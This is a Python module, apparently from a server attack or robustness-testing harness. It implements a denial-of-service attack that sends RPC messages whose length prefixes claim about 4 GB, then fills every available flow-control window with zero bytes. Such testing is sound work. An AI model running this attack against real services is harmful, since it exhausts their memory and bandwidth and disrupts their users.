"""Messages that say they are gigabytes, and send as much of them as is taken."""

import struct

import wire
from target import Storm

WAYS = ("plain",)
ROLE = "viewer"
FLOOR = {"calls": 200}


class Oversized(Storm):
    def on_tick(self, connection, streams):
        for stream in streams:
            room = min(connection.room(stream), wire.FRAME_MAX)
            if room < 1000:
                continue
            data = struct.pack(">BI", 0, 0xfffffff0) + bytes(room - 5)
            connection.window -= room
            connection.stream_windows[stream] -= room
            connection.queue(wire.frame(wire.DATA, 0, stream, data))


def attack(target):
    Oversized(target, wire.STREAM_DISPLAY, None, connections=4, calls=50).run()
